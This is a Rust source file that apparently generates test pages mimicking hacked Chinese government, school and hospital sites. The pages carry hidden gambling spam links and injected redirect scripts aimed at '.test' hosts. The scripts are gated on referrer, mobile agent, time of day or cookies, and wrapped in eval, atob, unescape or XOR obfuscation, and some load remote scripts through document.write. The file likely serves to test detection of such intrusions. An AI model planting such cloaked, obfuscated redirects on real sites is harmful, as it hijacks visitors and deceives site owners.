//! Wordings: pages of honest sites, what intruders put on them, and where those lead.

use std::fmt::Write as _;

use base64::Engine as _;

use super::case::{Case, Delivery, ScriptGate};

/// Pages of honest sites; `{HEAD}` stands at the end of the head, `{BODY}` at the end of the body.
const CARRIERS: &[&str] = &[
    "<!DOCTYPE html><html lang=zh-CN><head><meta charset=utf-8><title>{TITLE}青河县自然资源局</title>{HEAD}</head><body><h1>青河县自然资源局</h1>\
     <ul><li><a href=/jg/>机构概况</a><li><a href=/news/1.html>工作动态</a><li><a href=/news/2.html>政务公开</a></ul>\
     <p>各乡镇人民政府：为进一步落实耕地保护责任，定于本月下旬开展督查，请做好准备。</p>{BODY}<div>主办：青河县自然资源局</div></body></html>",
    "<!DOCTYPE html><html lang=zh-CN><head><meta charset=utf-8><title>{TITLE}临江第二中学</title>{HEAD}</head><body><h1>临江第二中学</h1>\
     <a href=/about.html>学校概况</a> <a href=/news/1.html>校园新闻</a> <a href=/news/2.html>教学教研</a>\
     <article><h2>我校举行秋季运动会</h2><p>十月十二日，全校四十二个班级参加了入场式。</p></article>{BODY}<footer>临江第二中学 版权所有</footer></body></html>",
    "<!DOCTYPE html><html lang=zh-CN><head><meta charset=utf-8><title>{TITLE}恒川机械制造有限公司</title>{HEAD}</head><body>\
     <a href=/product/>产品中心</a> <a href=/news/1.html>企业动态</a> <a href=/news/2.html>联系我们</a><h1>公司简介</h1>\
     <p>本公司成立于二〇〇三年，专业生产农用机械及配件，产品销往全国二十多个省市。</p>{BODY}<div>恒川机械制造有限公司</div></body></html>",
    "<!DOCTYPE html><html lang=zh-CN><head><meta charset=utf-8><title>{TITLE}南岭市图书馆</title>{HEAD}</head><body><h1>南岭市图书馆</h1>\
     <a href=/opac/>馆藏检索</a> <a href=/news/1.html>讲座预告</a> <a href=/news/2.html>开放时间</a>\
     <p>本周六上午九时举办古籍修复讲座，欢迎读者预约参加。</p>{BODY}<p>地址：南岭市学府路一号</p></body></html>",
    "<!DOCTYPE html><html lang=zh-CN><head><meta charset=utf-8><title>{TITLE}东湖人民医院</title>{HEAD}</head><body><h1>东湖人民医院</h1>\
     <a href=/dept/>科室介绍</a> <a href=/news/1.html>医院新闻</a> <a href=/news/2.html>就诊指南</a>\
     <p>我院心内科成功开展新技术，患者术后恢复良好。</p>{BODY}<p>急诊电话：见院内公告</p></body></html>",
];

/// Brands of platforms, for pages, titles and links.
const BRANDS: &[&str] = &["金樽", "永盛", "澳门新葡京", "凯发", "皇冠", "太阳城"];

/// The page of an honest site with something added; `head` may begin with a title in front of the site's own.
pub(crate) fn carrier(index: usize, head: &str, body: &str) -> String {
    let (title, head) = head.split_once('\u{1}').unwrap_or(("", head));
    CARRIERS[index % CARRIERS.len()].replace("{TITLE}", title).replace("{HEAD}", head).replace("{BODY}", body)
}

/// A short page.
pub(crate) fn notice(title: &str, text: &str) -> String {
    format!(
        "<!DOCTYPE html><html lang=zh-CN><head><meta charset=utf-8><title>{title}</title></head><body><h1>{title}</h1><p>{text}</p></body></html>"
    )
}

/// A platform's page.
pub(crate) fn platform(index: usize) -> String {
    let brand = BRANDS[index % BRANDS.len()];
    match index % 3 {
        0 => notice(
            &format!("{brand}娱乐城官网-真人百家乐-注册送彩金"),
            "真人视讯百家乐、电子老虎机、体育投注，注册即送88元彩金，充值提款秒到账，24小时在线客服。",
        ),
        1 => notice(
            &format!("{brand}国际-体育投注-棋牌电子平台"),
            "欧洲杯赛事投注，AG真人、PG电子，首存送100%，USDT充提，代理加盟高返水，立即注册领彩金。",
        ),
        _ => notice(
            &format!("{brand}彩票-时时彩北京赛车平台"),
            "时时彩、快三、六合彩在线投注，信誉平台，注册送彩金，充值返利，提现秒到，下载APP再送58。",
        ),
    }
}

/// Hidden links as intruders plant them.
pub(crate) fn links(case: &Case, port: u16) -> String {
    let mut text = String::from(match case.index % 3 {
        0 => "<div style='display:none'>",
        1 => "<div style='position:absolute;left:-9999px'>",
        _ => "<div style='height:0;overflow:hidden'>",
    });
    for (number, word) in ["百家乐", "真人视讯注册送彩金", "时时彩平台", "老虎机下载"].iter().enumerate()
    {
        let brand = BRANDS[(case.index + number) % BRANDS.len()];
        let _ = write!(text, "<a href='http://www.{}:{port}/'>{brand}{word}</a>", away(case.index + number));
    }
    text + "</div>"
}

/// Title and keywords as intruders write them, in the shape that [`carrier`] takes.
pub(crate) fn head(case: &Case) -> String {
    let brand = BRANDS[case.index % BRANDS.len()];
    format!(
        "{brand}娱乐城-百家乐真人视讯-注册送彩金-\u{1}<meta name=keywords content='{brand},百家乐,时时彩,老虎机,注册送彩金'>\
         <meta name=description content='{brand}娱乐城提供百家乐、真人视讯、体育投注，注册送彩金'>"
    )
}

/// The domain of a platform; nothing in the name says so.
pub(crate) fn away(index: usize) -> String {
    const WORDS: &[&str] = &["qmzt", "hrvd", "lkjn", "wbsc", "tyof"];
    format!("{}{}-landing.test", WORDS[index % WORDS.len()], index % 7)
}

/// Where visitors of that site are sent.
pub(crate) fn target(case: &Case, port: u16) -> String {
    format!("http://a{}.{}:{port}/?c={}", case.index % 4, away(case.index), case.index)
}

/// The script of a delivery with its gate, as it stands on the page.
pub(crate) fn script(case: &Case, gate: ScriptGate, delivery: Delivery, port: u16) -> String {
    let to = target(case, port);
    let code = match delivery {
        Delivery::Written => {
            let source =
                format!("http://cdn{}.{}:{port}/{}.js", case.index % 3, away(case.index), case.index);
            return format!("<script>document.write('<scr'+'ipt src=\"{source}\"></scr'+'ipt>');</script>");
        }
        Delivery::Packed => packed(&gated(gate, &to), case.index),
        _ => gated(gate, &to),
    };
    format!("<script>{code}</script>")
}

/// Code that sends a visitor away if the gate is open.
pub(crate) fn gated(gate: ScriptGate, to: &str) -> String {
    let go = format!("window.location.href=\"{to}\"");
    let hours = "var h=new Date().getHours();";
    match gate {
        ScriptGate::None => go,
        ScriptGate::Referrer => {
            format!("if(/baidu|sogou|so\\.com|sm\\.cn|google|bing/i.test(document.referrer)){{{go}}}")
        }
        ScriptGate::Agent => {
            format!("var u=navigator.userAgent;if(u.indexOf('Android')>-1||u.indexOf('iPhone')>-1){{{go}}}")
        }
        ScriptGate::Screen => format!("if(screen.width<768){{{go}}}"),
        ScriptGate::Clock => format!("{hours}if(h>=21||h<6){{{go}}}"),
        ScriptGate::Random => format!("if(Math.random()<0.3){{{go}}}"),
        ScriptGate::Storage => {
            format!("if(!localStorage.getItem('_v1')){{localStorage.setItem('_v1','1');{go}}}")
        }
        ScriptGate::Cookie => {
            format!("if(document.cookie.indexOf('_tj=')<0){{document.cookie='_tj=1;path=/';{go}}}")
        }
        ScriptGate::Click => format!("document.addEventListener('click',function(){{{go}}},true)"),
        ScriptGate::Back => {
            format!("history.pushState(null,null,'#');window.addEventListener('popstate',function(){{{go}}})")
        }
        ScriptGate::Four => format!(
            "{hours}if((h>=21||h<6)&&/Mobile/.test(navigator.userAgent)&&/baidu|sogou|so\\.com/.test(document.referrer)\
             &&!localStorage.k){{localStorage.k=1;{go}}}"
        ),
    }
}

/// Code in one of four wrappings.
fn packed(code: &str, index: usize) -> String {
    match index % 4 {
        0 => {
            let numbers: Vec<String> = code.chars().map(|c| (c as u32).to_string()).collect();
            format!("eval(String.fromCharCode({}))", numbers.join(","))
        }
        1 => format!("eval(atob('{}'))", base64::engine::general_purpose::STANDARD.encode(code)),
        2 => {
            let escaped: String = code.bytes().map(|byte| format!("%{byte:02x}")).collect();
            format!("new Function(unescape('{escaped}'))()")
        }
        _ => {
            let escaped: String = code.bytes().map(|byte| format!("\\x{:02x}", byte ^ 7)).collect();
            format!(
                "(function(s){{var r='';for(var i=0;i<s.length;i++)r+=String.fromCharCode(s.charCodeAt(i)^7);window['ev'+'al'](r)}})('{escaped}')"
            )
        }
    }
}
